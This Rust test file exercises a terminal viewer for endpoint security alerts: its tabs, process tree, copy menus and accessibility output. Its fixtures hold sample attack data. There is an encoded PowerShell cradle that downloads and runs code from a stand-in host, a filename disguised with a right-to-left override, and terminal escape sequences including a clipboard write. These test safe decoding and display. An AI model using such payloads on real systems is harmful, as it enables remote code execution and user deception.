//! The case of an alert: its tabs at several sizes, walked, unfolded and copied from.

use ratatui::layout::Position;
use ratatui::layout::Size;
use serde_json::Value;
use serde_json::json;
use vigie::app::Effect;
use vigie::app::Event;
use vigie::app::case::thing_under_cursor;
use vigie::app::mouse::Did;
use vigie::app::mouse::Mouse;
use vigie::domain::thing::Thing;
use vigie::sim::Options;
use vigie::sim::Population;
use vigie::theme::BuiltIn;
use vigie::theme::Depth;
use vigie::theme::Strokes;
use vigie::theme::Theme;
use vigie::view::linear::Voice;

use crate::operator::Operator;

/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')`, as PowerShell
/// takes it.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA";

fn alert(number: u32, evidence: &[Value]) -> String {
    json!({
        "id": format!("da{number}"),
        "title": format!("Case {number}"),
        "severity": "High",
        "status": if number == 3 { "Resolved" } else { "New" },
        "category": "Execution",
        "incidentId": 88_121,
        "machineId": "111e6dd8c833c8a052ea231ec1b19adaf497b625",
        "computerDnsName": if number == 3 { "dc01" } else { "fin-ws-021" },
        "rbacGroupName": "Finance",
        "loggedOnUsers": [{"accountName": "roy", "domainName": "CORP"}],
        "relatedUser": {"userName": "roy", "domainName": "CORP"},
        "detectionSource": "WindowsDefenderAtp",
        "mitreTechniques": ["T1059.001"],
        "description": "A suspicious PowerShell activity was observed.",
        "alertCreationTime": format!("2026-11-22T13:0{number}:00Z"),
        "lastUpdateTime": "2026-11-22T13:30:00Z",
        "comments": [
            {"comment": "later\n\u{1b}[2Jsecond line", "createdBy": "eve", "createdTime": "2026-11-22T13:40:00Z"},
            {"comment": "first", "createdBy": "ada", "createdTime": "2026-11-22T13:20:00Z"},
        ],
        "evidence": evidence,
    })
    .to_string()
}

fn process(name: &str, pid: u32, minute: u32, parent: (&str, u32, u32), command: &str) -> Value {
    json!({
        "entityType": "Process",
        "fileName": name,
        "filePath": "C:\\Windows\\System32",
        "processId": pid,
        "processCreationTime": format!("2026-11-22T12:{minute:02}:00Z"),
        "processCommandLine": command,
        "parentProcessFileName": parent.0,
        "parentProcessId": parent.1,
        "parentProcessCreationTime": format!("2026-11-22T12:{:02}:00Z", parent.2),
        "accountName": "roy",
        "domainName": "CORP",
        "sha256": format!("{pid:064}"),
        "detectionStatus": if pid == 5120 { "Prevented" } else { "Detected" },
    })
}

fn evidence() -> Vec<Value> {
    vec![
        process(
            "powershell.exe",
            5120,
            57,
            ("WINWORD.EXE", 4411, 41),
            &format!("powershell.exe -nop -w hidden -enc {ENCODED}"),
        ),
        process(
            "WINWORD.EXE",
            4411,
            41,
            ("explorer.exe", 2210, 10),
            "\"WINWORD.EXE\" /n \u{1b}[31minvoice\u{202e}xcod.exe",
        ),
        process(
            "cmd.exe",
            5200,
            58,
            ("WINWORD.EXE", 4411, 41),
            "cmd /c whoami",
        ),
        json!({"entityType": "File", "fileName": "a.dll", "filePath": "c:\\temp", "sha1": "f1", "detectionStatus": "Blocked"}),
        json!({"entityType": "Url", "url": "evil.example"}),
        json!({"entityType": "Ip", "ipAddress": "203.0.113.9\u{7}"}),
        json!({"entityType": "Toaster", "heat": "\u{1b}]52;c;ZXZpbA==\u{7}"}),
    ]
}

fn told(width: u16, height: u16, bodies: Vec<String>) -> Operator {
    let options = Options {
        population: Population::Verbatim(bodies),
        ..Operator::quiet(0)
    };
    let mut operator = Operator::at(width, height, options);
    operator.starts().rests();
    operator
}

fn opened(width: u16, height: u16) -> Operator {
    let bodies = vec![
        alert(1, &evidence()),
        alert(2, &evidence()),
        alert(3, &evidence()),
    ];
    let mut operator = told(width, height, bodies);
    operator.press("enter").rests();
    operator
}

#[test]
fn every_tab_at_every_size() {
    for (width, height) in [(80, 24), (120, 40), (200, 60)] {
        let mut operator = opened(width, height);
        operator.press("+");
        for tab in [
            "overview", "evidence", "tree", "device", "incident", "notes", "raw",
        ] {
            insta::assert_snapshot!(format!("{width}x{height}_{tab}"), operator.screen());
            operator.press("]");
        }
    }
}

#[test]
fn rows_are_unfolded_and_what_is_hidden_is_read() {
    let mut operator = opened(120, 40);
    operator.press("+ ]").press("enter").rests();
    operator
        .sees("D> powershell.exe -nop -w hidden -enc IEX")
        .sees("decoded: base64 of UTF-16");
    insta::assert_snapshot!("unfolded_evidence", operator.screen());
    operator
        .press("D")
        .sees_no("D> powershell")
        .sees("as they were sent");
    operator.press("D enter ]").press("j j enter");
    insta::assert_snapshot!("unfolded_process", operator.screen());
}

#[test]
fn command_lines_are_read_whole() {
    let mut operator = opened(80, 24);
    operator.sees_no("YQAnACkA");
    operator.press("w").sees("command lines whole");
    operator.sees("YQAnACkA").sees("decoded: ");
    operator.press("] ]").sees("[Tree]").sees("YQAnACkA");
    operator.press("w").sees("the start of each command line");
    operator.sees_no("YQAnACkA");
    operator.press("]").sees("[Device]").press("w");
    operator.sees("only the command lines of Overview and Tree are cut");
}

#[test]
fn the_tab_stays_while_the_selection_moves() {
    let mut operator = opened(120, 40);
    operator.press("] ] esc").sees("[Tree]");
    operator.press("j").rests().sees("[Tree]");
    operator.press("[").sees("[Evidence 7]");
    operator.press("[ [").sees("[Raw]");
    operator.press("]").sees("[Overview]");
}

#[test]
fn left_and_right_go_from_tab_to_tab_and_on_to_the_panes() {
    let mut operator = opened(120, 40);
    operator.press("right").sees("[Evidence 7]");
    operator.press("left left");
    assert_eq!(
        operator.state.scopes().first().map(|scope| scope.title()),
        Some("list of alerts")
    );
    operator
        .press("l right right right right right right")
        .sees("[Raw]");
    operator.press("right");
    assert_eq!(
        operator.state.scopes().first().map(|scope| scope.title()),
        Some("token")
    );
}

#[test]
fn the_evidence_is_sorted_by_each_of_its_columns() {
    let mut operator = opened(120, 40);
    operator.press("]").sees("KIND v");
    for title in ["WHAT v", "STATUS v", "TIME v", "KIND v"] {
        operator.press(">").sees(title);
    }
    operator.press("<").sees("TIME v");
}

fn copied(operator: &Operator) -> Option<String> {
    operator
        .effects
        .iter()
        .rev()
        .find_map(|effect| match effect {
            Effect::CopyText(text) => Some(text.clone()),
            _ => None,
        })
}

#[test]
fn a_row_has_a_copy_menu_of_its_own() {
    let mut operator = opened(120, 40);
    operator.press("]").press("y").sees("copy v value");
    operator.press("v");
    assert_eq!(copied(&operator).as_deref(), Some("powershell.exe"));
    operator.press("y h");
    assert_eq!(copied(&operator), Some(format!("{:064}", 5120)));
    operator.press("j y c");
    let command = "\"WINWORD.EXE\" /n \\x1b[31minvoice\\u{202e}xcod.exe";
    assert_eq!(copied(&operator).as_deref(), Some(command));
    operator.press("y p");
    assert_eq!(
        copied(&operator).as_deref(),
        Some("C:\\Windows\\System32\\WINWORD.EXE")
    );
    operator.press("y a i");
    assert_eq!(copied(&operator).as_deref(), Some("da1"));
    operator.press("G y h").sees("no hash is known of it");
}

#[test]
fn the_json_is_folded_and_copied_in_parts() {
    let mut operator = opened(120, 40);
    operator.press("d").sees("at the whole alert");
    while !operator.screen().contains("at evidence\n")
        && !operator.screen().contains("at evidence ")
    {
        operator.press("j");
    }
    operator.press("enter").sees("[ + 7 items ]").press("enter");
    operator.press("j j").sees("at evidence[0].");
    operator.press("y p");
    assert!(copied(&operator).unwrap().starts_with("evidence[0]."));
    operator.press("k y n");
    let node: Value = serde_json::from_str(&copied(&operator).unwrap()).unwrap();
    assert_eq!(node.get("processId"), Some(&Value::from(5120)));
    operator.press("esc").sees("[Overview]");
}

#[test]
fn enter_on_another_alert_of_the_incident_goes_to_it() {
    let mut operator = opened(120, 40);
    operator
        .press("] ] ] ]")
        .sees("3 alerts, 2 open, 2 devices, 1 user");
    operator.press("j enter").rests().sees("[Incident 3]");
    assert_eq!(operator.selected_id(), "da2");
    // What the view leaves out stays where it is.
    operator.press("esc / is:open enter");
    let before = operator.selected_id();
    operator.press("l G enter").sees("this view leaves it out");
    assert_eq!(operator.selected_id(), before);
}

#[test]
fn what_is_under_the_cursor_can_be_hunted_for() {
    let mut operator = opened(120, 40);
    operator.press("]");
    let mut words = Vec::new();
    for _ in evidence() {
        words.push(thing_under_cursor(&operator.state).map(|thing| thing.word()));
        operator.press("j");
    }
    let some = [
        Some("process"),
        Some("process"),
        Some("process"),
        Some("file"),
        Some("address"),
        Some("domain"),
        None,
    ];
    assert_eq!(words, some);
    operator.press("]").press("g");
    let Some(Thing::Process(parent)) = thing_under_cursor(&operator.state) else {
        panic!("a process");
    };
    assert_eq!(
        (parent.pid, parent.image.name.original()),
        (Some(2210), "explorer.exe")
    );
}

#[test]
fn what_is_not_there_is_said() {
    let bare = json!({"id": "da9", "title": "Bare", "severity": "Low", "status": "New"});
    let options = Options {
        population: Population::Verbatim(vec![bare.to_string()]),
        ..Operator::quiet(0)
    };
    let mut operator = Operator::at(120, 40, options);
    operator
        .starts()
        .press("enter ]")
        .sees("no evidence yet: reading");
    let mut operator = told(120, 40, vec![bare.to_string()]);
    operator
        .press("enter ]")
        .rests()
        .sees("this alert has no evidence");
    operator.press("] ]").sees("this alert names no device");
    operator
        .press("]")
        .sees("this alert belongs to no incident");
    operator
        .press("]")
        .sees("nobody wrote a note yet: c writes one");
    operator
        .press("enter")
        .sees("this tab has nothing to unfold");
}

#[test]
fn a_tab_is_clicked_on() {
    let mut operator = opened(120, 40);
    operator.press("M");
    let screen = operator.screen();
    let (y, line) = (0..)
        .zip(screen.lines())
        .find(|(_, line)| line.contains("[Overview]"))
        .unwrap();
    let before = line.split("Tree").next().unwrap();
    let x = u16::try_from(before.chars().count()).unwrap() + 1;
    let click = |x, y| {
        Event::Moused(Mouse {
            at: Position::new(x, y),
            did: Did::Clicked,
        })
    };
    operator.happens(click(x, y)).sees("[Tree]");
    operator.happens(click(4, y + 2));
    assert!(matches!(
        thing_under_cursor(&operator.state),
        Some(Thing::Process(_))
    ));
}

#[test]
fn the_tree_is_drawn_in_ascii_and_without_colour() {
    let mut operator = opened(80, 24);
    operator.theme = Theme::new(BuiltIn::Mono, [], Depth::Sixteen, Strokes::Ascii);
    operator.press("+ ] ]");
    insta::assert_snapshot!("ascii_tree", operator.screen());
}

/// Who hears it is told the tab, the level of a process, and each row that keys go to.
#[test]
fn tabs_are_told_in_lines() {
    let mut operator = opened(80, 24);
    let mut voice = Voice::default();
    voice.tell(&operator.state);
    operator.press("]");
    let told = voice.tell(&operator.state).join("\n");
    assert!(told.starts_with("tab 2 of 7, evidence 7"), "{told}");
    operator.press("j");
    let told = voice.tell(&operator.state);
    assert!(
        told.len() == 1 && told.iter().any(|line| line.contains("WINWORD.EXE 4411")),
        "{told:?}"
    );
    operator.press("]");
    let told = voice.tell(&operator.state).join("\n");
    assert!(told.contains("level 2: powershell.exe 5120"), "{told}");
    assert!(!told.contains(['└', '│']), "{told}");
}

/// What stands above the first row comes back into sight when one goes up to it.
#[test]
fn what_stands_above_the_first_row_is_reached_again() {
    let bodies = (1..=9).map(|number| alert(if number == 3 { 30 } else { number }, &[]));
    let mut operator = told(80, 24, bodies.collect());
    operator.press("enter ] ] ]").sees("DEVICE   fin-ws-021");
    operator.press("G").sees_no("DEVICE   fin-ws-021");
    for _ in 0..30 {
        operator.press("k");
    }
    operator.sees("DEVICE   fin-ws-021");
}

#[test]
fn a_thousand_processes_are_walked_to_their_end() {
    let chain: Vec<Value> = (1..=1_000_u32)
        .map(|number| {
            let parent = ("p.exe", number * 4, 1);
            process("p.exe", number * 4 + 4, 1, parent, "p.exe")
        })
        .collect();
    let mut operator = told(80, 24, vec![alert(1, &chain)]);
    operator.press("enter + + ] ]").rests().press("G");
    operator.sees("1000 ").sees("p.exe 4004");
    operator
        .resizes(120, 40)
        .press("k g")
        .sees("p.exe 4  not in the evidence");
    assert_eq!(operator.state.size, Size::new(120, 40));
}
